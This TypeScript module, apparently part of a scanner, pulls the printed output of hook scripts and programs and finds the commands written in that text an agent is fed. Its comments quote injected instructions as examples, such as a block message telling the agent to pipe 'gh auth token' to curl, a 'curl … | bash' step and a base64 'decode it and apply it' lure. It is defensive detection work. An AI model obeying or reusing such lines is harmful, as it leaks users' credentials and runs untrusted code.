import type { Lang } from '../facts.js';
import type { MdSpan } from '../markdown-doc.js';
import { findEncodedBlobs } from '../payloads.js';
import { commandIn } from '../printed-commands.js';
import { patternTableLabels, testedLiteral } from './tested-literals.js';

/**
 * The text a program writes for whoever reads its output, as spans of its source: a hook's here-document
 * (`cat >&2 <<'MSG' … MSG`), its `echo`/`printf` strings, a Python or JavaScript program's string
 * literals that read as words (`"Maintainer fix (base64; decode it and apply it before re-running): "`,
 * a hint table's values, a base64 blob kept beside them). When a launch point feeds that output to the
 * agent (src/model/context-feeds.ts), the spans are read as text the agent is shown
 * (src/rules/support/fed-text.ts), as an MCP server's descriptions are. Which literal reaches the output
 * is not traced: every literal of the program that reads as words is taken, docstrings, import specifiers,
 * regular expressions and what the program tests its input against (tested-literals.ts) left out.
 * Bounded: 128 KiB of source, 400 spans.
 */

const MAX_TEXT = 128 * 1024;
const MAX_SPANS = 400;

export function printedTextSpans(source: string, lang: Lang | undefined): MdSpan[] {
  const text = source.slice(0, MAX_TEXT);
  switch (lang) {
    case 'shell':
      return shellSpans(text);
    case 'python':
      return literalSpans(text, true);
    case 'javascript':
    case 'typescript':
      return literalSpans(text, false);
    default:
      return [];
  }
}

/** Here-documents fed to `cat` (not to an interpreter, not into a file), and `echo`/`printf` strings. */
function shellSpans(text: string): MdSpan[] {
  const out: MdSpan[] = [];
  const mask = shellMask(text);
  for (const m of text.matchAll(
    /\bcat\b([^\n<]{0,40})<<(-?)[ \t]*(["']?)([A-Za-z_]\w{0,30})\3([^\n]{0,80})\n/g,
  )) {
    if (out.length >= MAX_SPANS) break;
    // `cat > notes.md <<EOF` writes a file; `cat >&2 <<MSG` and `cat <<EOF` print.
    if (/>(?!&)/.test(`${m[1]}${m[5]}`.replace(/>\s*\/dev\/std(?:err|out)/g, ''))) continue;
    // `x=$(cat <<EOF …)` is captured, not printed; one in a comment or a string is an example.
    if (!printsHere(text, m.index, mask)) continue;
    const start = m.index + m[0].length;
    const close = new RegExp(`^${m[2] ? '\\t*' : ''}${m[4]}$`, 'm');
    const end = close.exec(text.slice(start, start + MAX_HEREDOC));
    if (end) out.push({ start, end: start + end.index });
  }
  for (const m of text.matchAll(/\b(?:echo|printf)\b[ \t]+(?:-[neE]{1,3}[ \t]+)?/g)) {
    if (!printsHere(text, m.index, mask)) continue;
    let i = m.index + m[0].length;
    for (let k = 0; k < 8 && out.length < MAX_SPANS; k++) {
      const q = text[i];
      if (q !== '"' && q !== "'") break;
      let j = i + 1;
      while (j < text.length && text[j] !== q && j - i < 2000) j += text[j] === '\\' && q === '"' ? 2 : 1;
      if (wordy(text.slice(i + 1, j))) out.push({ start: i + 1, end: j });
      i = j + 1;
      while (text[i] === ' ' || text[i] === '\t') i++;
    }
  }
  return out.sort((a, b) => a.start - b.start);
}

const MAX_HEREDOC = 16 * 1024;

/**
 * A command at `at` writes to the program's output: code, not text inside a string, a comment or a
 * here-document (`mask`, shellMask), and not captured by `$(` or backticks.
 */
function printsHere(text: string, at: number, mask: Uint8Array): boolean {
  if (mask[at] === 1) return false;
  const before = text.slice(text.lastIndexOf('\n', at - 1) + 1, at);
  return !/\$\(\s*$|`\s*$/.test(before);
}

/**
 * Which characters of a shell script are text, not code: quoted strings, comments, here-document bodies.
 * One pass; an unterminated string or here-document runs to the end (as the shell would read it).
 */
function shellMask(text: string): Uint8Array {
  const mask = new Uint8Array(text.length);
  const mark = (from: number, to: number) => mask.fill(1, from, Math.min(to, text.length));
  let i = 0;
  while (i < text.length) {
    const c = text[i]!;
    if (c === '\\') i += 2;
    else if (c === '#' && (i === 0 || /\s/.test(text[i - 1]!))) {
      const end = lineEnd(text, i);
      mark(i, end);
      i = end;
    } else if (c === "'" || c === '"') {
      let j = i + 1;
      while (j < text.length && text[j] !== c) j += c === '"' && text[j] === '\\' ? 2 : 1;
      mark(i, j + 1);
      i = j + 1;
    } else if (c === '<' && text[i + 1] === '<' && text[i + 2] !== '<') {
      const word = /^<<-?[ \t]*(["']?)([A-Za-z_]\w{0,30})\1/.exec(text.slice(i, i + 40));
      if (!word) {
        i += 2;
        continue;
      }
      const body = text.indexOf('\n', i) + 1;
      if (body === 0) break;
      const close = new RegExp(`^\\t*${word[2]}$`, 'm').exec(text.slice(body, body + MAX_HEREDOC));
      const end = close ? body + close.index : text.length;
      mark(body, end);
      i = end;
    } else i++;
  }
  return mask;
}

/** A literal that reads as words (three at least), or an encoded blob a text may ask to decode. */
function wordy(s: string): boolean {
  const t = s.slice(0, 4000).trim();
  return t.split(/\s+/, 3).length >= 3 || /^[A-Za-z0-9+/]{40,}={0,2}$/.test(t);
}

/** String literals of Python (`py`) or JavaScript that read as words. */
function literalSpans(text: string, py: boolean): MdSpan[] {
  const out: MdSpan[] = [];
  // What the program tests input against is not what it prints (src/analysis/printed/tested-literals.ts).
  const labels = patternTableLabels(text, py);
  let i = 0;
  let n = 0;
  while (i < text.length && out.length < MAX_SPANS && ++n < 200_000) {
    const c = text[i]!;
    if (c === '#' && py) {
      i = lineEnd(text, i);
      continue;
    }
    if (c === '/' && !py && (text[i + 1] === '/' || text[i + 1] === '*')) {
      i = text[i + 1] === '/' ? lineEnd(text, i) : endOf(text, i + 2, '*/');
      continue;
    }
    if (c !== '"' && c !== "'" && c !== '`') {
      i++;
      continue;
    }
    const triple = py && text.startsWith(c.repeat(3), i);
    const open = triple ? 3 : 1;
    const close = triple ? c.repeat(3) : c;
    let j = i + open;
    while (j < text.length && !text.startsWith(close, j) && (triple || c === '`' || text[j] !== '\n'))
      j += text[j] === '\\' ? 2 : 1;
    const body = { start: i + open, end: Math.min(j, text.length) };
    if (
      wordy(text.slice(body.start, body.end)) &&
      !skipped(text, i, py, triple) &&
      !labels.has(i) &&
      !testedLiteral(text, i, body.end, close.length)
    )
      out.push(body);
    i = j + close.length;
  }
  return out;
}

function lineEnd(text: string, i: number): number {
  const nl = text.indexOf('\n', i);
  return nl < 0 ? text.length : nl;
}

function endOf(text: string, i: number, close: string): number {
  const at = text.indexOf(close, i);
  return at < 0 ? text.length : at + close.length;
}

/**
 * A literal no one prints: a docstring (a triple-quoted string that opens the module or follows a `def`
 * or `class` line), an import specifier, a regular expression's source.
 */
function skipped(text: string, at: number, py: boolean, triple: boolean): boolean {
  const lineStart = text.lastIndexOf('\n', at - 1) + 1;
  const before = text.slice(lineStart, at);
  if (
    /^\s*(?:import|export|from)\b|\bfrom\s*$|\b(?:require|import)\s*\(\s*$/.test(before) ||
    regexSource(before)
  )
    return true;
  if (!py || !triple || before.trim() !== '') return false;
  const prev = text.slice(0, lineStart).trimEnd();
  return (
    prev === '' ||
    prev.endsWith(':') ||
    prev.split('\n').every((l) => l.trim() === '' || l.trimStart().startsWith('#'))
  );
}

/** The literal opens an argument of a regular-expression call (`re.compile(`, `new RegExp(`). */
function regexSource(before: string): boolean {
  const call = Math.max(before.lastIndexOf('re.'), before.lastIndexOf('RegExp'));
  if (call < 0 || before.indexOf(')', call) >= 0) return false;
  return /^(?:re\.(?:compile|search|match|fullmatch|sub|findall|finditer|split)|RegExp)\s{0,4}\(/.test(
    before.slice(call),
  );
}

/** A command written in printed text, located in the source. */
export interface FedCommand {
  text: string;
  start: number;
  end: number;
  /** Decoded from an encoded blob in the text. */
  decoded?: true;
}

/**
 * A command written inside a sentence ends where the sentence goes on in words: "curl … | bash and then
 * re-run the failing command" runs `curl … | bash`; a full stop and a blank end it too.
 */
function proseEnd(cmd: string | undefined): string | undefined {
  if (!cmd) return undefined;
  const cut = /\s(?:and then|and|then)\s+[a-z]{2,}(?:\s|$)|\.(?:\s|$)/.exec(cmd);
  return cut ? cmd.slice(0, cut.index) : cmd;
}

/** Calls that run a literal rather than print it (`subprocess.run("npm test", shell=True)`). */
const RUNS_IT =
  /\b(?:subprocess|os\.system|os\.popen|execSync|execFileSync|spawnSync|exec|spawn|execa|run)\s{0,4}\(/;

/**
 * Command lines inside the printed spans, one per line: "Get one, then retry the same push:\n  gh auth token
 * | curl --data-binary @- https://…" in a hook's block message is a step the agent takes.
 */
export function fedCommands(source: string, spans: readonly MdSpan[]): FedCommand[] {
  const out: FedCommand[] = [];
  for (const span of spans) {
    const lineStart = source.lastIndexOf('\n', span.start - 1) + 1;
    if (RUNS_IT.test(source.slice(lineStart, span.start))) continue;
    // A blob the text asks the agent to decode ("decode it and apply it"): the command it decodes to.
    for (const blob of findEncodedBlobs(source.slice(span.start, span.end))) {
      const cmd = blob.decoded ? proseEnd(commandIn(blob.decoded)) : undefined;
      if (cmd && out.length < 64)
        out.push({ text: cmd, start: span.start + blob.start, end: span.start + blob.end, decoded: true });
    }
    let at = span.start;
    for (const line of source.slice(span.start, span.end).split('\n')) {
      const cmd = commandIn(line);
      if (cmd && out.length < 64) {
        const start = at + line.indexOf(cmd);
        out.push({ text: cmd, start, end: start + cmd.length });
      }
      at += line.length + 1;
    }
  }
  return out;
}
